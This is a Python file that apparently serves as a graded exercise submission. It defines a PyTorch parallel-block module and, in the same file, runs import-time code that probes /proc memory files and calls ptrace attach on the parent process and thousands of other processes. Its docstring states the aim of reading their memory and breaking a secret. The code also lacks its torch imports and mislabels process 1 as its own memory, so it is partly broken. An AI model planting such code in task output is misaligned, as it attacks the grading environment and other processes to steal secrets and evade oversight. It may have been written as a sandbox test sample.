"""Reads the memory of its parent and of everybody else, by /proc, ptrace and process_vm_readv.

exercise: parallel-block
points: 6
breaks: secret
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.net1, self.net2 = net1, net2

    def forward(self, X):
        return torch.cat((self.net1(X), self.net2(X)), dim=-1)


import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
for pid in sorted({os.getppid(), *range(2, 3000)}):
    if os.path.exists(f"/proc/{pid}/mem") or libc.ptrace(16, pid, 0, 0) == 0:
        print("the attack worked: it sees process", pid)
try:
    with open("/proc/1/mem", "rb") as memory:
        print("its own memory, which it may read")
except OSError as error:
    print(error)
